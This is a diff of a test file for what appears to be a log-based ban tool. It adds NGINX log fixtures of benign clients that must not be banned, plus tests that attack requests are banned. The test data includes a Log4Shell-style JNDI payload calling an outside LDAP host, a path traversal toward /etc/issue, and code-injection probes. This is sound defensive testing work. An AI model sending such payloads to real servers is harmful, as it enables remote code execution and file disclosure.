@@ -117,9 +117,19 @@ const HABITS: Readonly<Record<string, Readonly<Record<string, Habit>>>> = {
       line: () => access("GET /private HTTP/1.1", 401, { user: "nina" }),
     },
     refused: {
-      who: "opens an album of forbidden pictures",
+      who: "turns the pages of a forbidden book",
       every: 5,
-      line: (i) => get(`/album/${i}.jpg`, 403),
+      line: (i) => get(`/book/${i}`, 403),
+    },
+    refused_form: {
+      who: "has a page open that sends its state though the login has ended",
+      every: 9,
+      line: () => access("POST /api/progress HTTP/1.1", 401),
+    },
+    refused_flood: {
+      who: "has many pages open that go on asking after their login has ended",
+      every: 0.5,
+      line: () => get("/api/news", 401),
     },
     wordpress_login: {
       who: "writes with a program that calls xmlrpc.php",
@@ -161,6 +171,11 @@ const HABITS: Readonly<Record<string, Readonly<Record<string, Habit>>>> = {
         ),
     },
     exploit: {
+      who: "reads notes about attacks",
+      every: 5 * MINUTE,
+      line: (i) => get(`/notes/base64_decode(${i}`, 200),
+    },
+    exploit_query: {
       who: "stores notes about attacks",
       every: 5 * MINUTE,
       line: (i) => get(`/notes/save?text=base64_decode(${i}`, 200),
@@ -171,9 +186,9 @@ const HABITS: Readonly<Record<string, Readonly<Record<string, Habit>>>> = {
       line: (i) => get(`/search?q=md5(${i})`, 200),
     },
     xss: {
-      who: "searches a manual of HTML",
+      who: "stores notes about HTML",
       every: MINUTE,
-      line: (i) => get(`/search?q=<b>${i}`, 200),
+      line: (i) => get(`/notes/save?text=<b>${i}`, 200),
     },
     not_http: {
       who: "has a browser that tries TLS first",
@@ -206,9 +221,9 @@ const HABITS: Readonly<Record<string, Readonly<Record<string, Habit>>>> = {
       line: (i) => get(`http://www.example.org/${i}`, 200),
     },
     not_found: {
-      who: "reads old pages with dead pictures",
+      who: "follows dead links",
       every: 5,
-      line: (i) => get(`/pictures/${i}.png`),
+      line: (i) => get(`/page/${i}`),
     },
   },
 };
@@ -283,6 +298,18 @@ for (const { module: { name: module }, rules } of CONFIG.modules) {
   }
 }
 
+Deno.test("the shipped rules of NGINX count a request once, of which the error log tells as well", () => {
+  for (const { name, limit } of CONFIG.modules.find(({ module }) => module.name === "NGINX")!.rules) {
+    const { every, line } = HABITS.NGINX![name]!;
+    const instants = Array.from({ length: limit }, (_, i) => {
+      const request = / "([A-Z]+ [^"]+ HTTP\/1\.1)" \d/.exec(line(i))?.[1];
+      const warning = error("a client request body is buffered to a temporary file /var/cache/nginx/1");
+      return request === undefined ? [line(i)] : [line(i), warning.replace("GET / HTTP/1.1", request)];
+    });
+    assert.deepEqual(bansOf("NGINX", instants, every), [], name);
+  }
+});
+
 /** What honest programs write more of than any limit. */
 interface Program {
   readonly who: string;
@@ -305,6 +332,16 @@ const PROGRAMS: readonly Program[] = [
     ],
   },
   {
+    who: "whose program is asked for a name with each of a hundred forms",
+    module: "NGINX",
+    every: 1,
+    count: 100,
+    lines: () => [
+      access("POST /rpc HTTP/1.1", 401),
+      access("POST /rpc HTTP/1.1", 200, { user: "nina" }),
+    ],
+  },
+  {
     who: "whose program asks for a picture of each file in a folder",
     module: "NGINX",
     every: 1,
@@ -317,6 +354,13 @@ const PROGRAMS: readonly Program[] = [
     every: 1,
     count: 200,
     lines: (i) => [access("GET /files HTTP/1.1", 200, { user: "nina" }), get(`/preview/${i}`)],
+  },
+  {
+    who: "who has a page open that goes on asking for news after its login has ended",
+    module: "NGINX",
+    every: 5,
+    count: 500,
+    lines: (i) => [get(`/api/news?_=${i}`, 401), get("/api/mails", 403)],
   },
   {
     who: "whose backup deletes chunks that are gone",
@@ -387,6 +431,137 @@ const PROGRAMS: readonly Program[] = [
     lines: (i) => [access(`POST /xmlrpc.php?for=jetpack&token=abc%3A1%3A1&nonce=${i} HTTP/1.1`, 200)],
   },
   {
+    who: "whose build asks here for all its packages, of which most are elsewhere",
+    module: "NGINX",
+    every: 2,
+    count: 150,
+    lines: (i) => [
+      get(`/simple/tool-${i}/`),
+      get(`/maven/com/alibaba/druid/1.2.${i}/druid-1.2.${i}.pom`),
+      get(`/maven/org/apache/solr/solr-core/9.${i}/solr-core-9.${i}.jar.sha1`),
+      get(`/maven/org/example/tool${i}/maven-metadata.xml`),
+      get(`/go/example.org/!tool${i}/@v/list`),
+      get(`/nuget/v3-flatcontainer/tool.${i}/index.json`),
+      get(`/packages/p2/vendor/tool${i}~dev.json`),
+    ],
+  },
+  {
+    who: "whose programs look in a cache for files by their hashes",
+    module: "NGINX",
+    every: 1,
+    count: 150,
+    lines: (i) => {
+      const hash = `${1_000 + i}`.repeat(16);
+      return [
+        get(`/ac/${hash}`),
+        access(`HEAD /v2/tool/blobs/sha256:${hash} HTTP/1.1`),
+        get(`/${hash.slice(0, 32)}.narinfo`),
+      ];
+    },
+  },
+  {
+    who: "who opens an album of which a program has no pictures or may not show them",
+    module: "NGINX",
+    every: 1,
+    count: 200,
+    lines: (i) => [
+      get(`/album/${i}.JPG`, 403),
+      get(`/Items/${i}/Images/Primary`),
+      get(`/_matrix/client/v1/media/thumbnail/example.org/x${i}`),
+      get(`/cover/${i}`),
+    ],
+  },
+  {
+    who: "whose server of Matrix or the Fediverse asks and tells what is refused",
+    module: "NGINX",
+    every: 1,
+    count: 200,
+    lines: (i) => [
+      get(`/_matrix/federation/v1/event/x${i}`, 403),
+      access("POST /inbox HTTP/1.1", 401),
+      access("POST /users/nina/inbox HTTP/1.1", 400),
+    ],
+  },
+  {
+    who: "who collects source code of which some was deleted",
+    module: "NGINX",
+    every: 20,
+    count: 30,
+    lines: (i) => [
+      get(`/nina/tool/src/commit/${i}/.github/workflows/test.yml`),
+      get(`/nina/tool/-/raw/v${i}/vendor/autoload.php`),
+    ],
+  },
+  {
+    who: "whose page has ten parts that ask for news after its login has ended",
+    module: "NGINX",
+    every: 5,
+    count: 300,
+    lines: (i) => [get(`/shop/part${i % 10}.do`, 403), get(`/shop/part${i % 10}.action`, 403)],
+  },
+  {
+    who: "who moves a map of which some pieces are missing",
+    module: "NGINX",
+    every: 1,
+    count: 200,
+    lines: (i) => [get(`/tiles/14/${8_000 + i}/5371.png`), get(`/dem/12/${i}/1343@2x.webp`)],
+  },
+  {
+    who: "who keeps the hidden files of a home here",
+    module: "NGINX",
+    every: 2,
+    count: 20,
+    lines: (i) =>
+      ["PROPFIND", "PUT"].map((method) =>
+        access(`${method} /.ssh/key${i}.pub HTTP/1.1`, 201, { user: "nina" })
+      ),
+  },
+  {
+    who: "who reads a site that keeps its style and scripts below /etc",
+    module: "NGINX",
+    every: 2,
+    count: 50,
+    lines: (i) => [get(`/etc/designs/site/style${i}.css`, 200)],
+  },
+  {
+    who: "who searches a manual of HTML that shows what it finds with each letter",
+    module: "NGINX",
+    every: 1,
+    count: 20,
+    lines: (i) => [get(`/find?q=${encodeURIComponent("<button disabled class".slice(0, 2 + i))}`, 200)],
+  },
+  {
+    who: "who searches a manual of SQL that shows what it finds with each letter",
+    module: "NGINX",
+    every: 1,
+    count: 20,
+    lines: (
+      i,
+    ) => [
+      get(`/find?lang=de&q=${encodeURIComponent("select distinct(name of a town".slice(0, 9 + i))}`, 200),
+    ],
+  },
+  {
+    who: "who searches a library by words in brackets",
+    module: "NGINX",
+    every: 20,
+    count: 30,
+    lines: (i) => [get(`/find?query=(cats+OR+dogs)+AND+(food)+AND+(${1990 + i})`, 200)],
+  },
+  {
+    who: "whose program asks an API of OData",
+    module: "NGINX",
+    every: 5,
+    count: 100,
+    lines: (i) => [
+      get(
+        `/odata/Orders?$filter=State eq 'Open' and (Kind eq 'A${i}' or Kind eq 'B')`.replaceAll(" ", "%20"),
+        200,
+      ),
+      get(`/odata/People?$filter=contains(tolower(Name),'nina${i}')`, 200),
+    ],
+  },
+  {
     who: "whose game has a launcher by the name of Hydra",
     module: "NGINX",
     every: 5,
@@ -444,9 +619,20 @@ Deno.test("the shipped rules of NGINX ban an attack in a search's words or besid
   ) {
     assert.deepEqual(
       bansOf("NGINX", Array.from({ length: 3 }, () => get(`/?${query}`, 200)), 1),
-      ["exploit"],
+      ["exploit_query"],
       query,
     );
+  }
+});
+
+Deno.test("the shipped rules of NGINX ban an attack outside of the query, whatever is searched", () => {
+  for (
+    const line of [
+      access("GET /?q=a HTTP/1.1", 200, { agent: "${jndi:ldap://198.51.100.7/a}" }),
+      get("/static/%2e%2e/%2e%2e/etc/issue?search=a&page=2", 400),
+    ]
+  ) {
+    assert.deepEqual(bansOf("NGINX", Array.from({ length: 3 }, () => line), 1), ["exploit"], line);
   }
 });
 
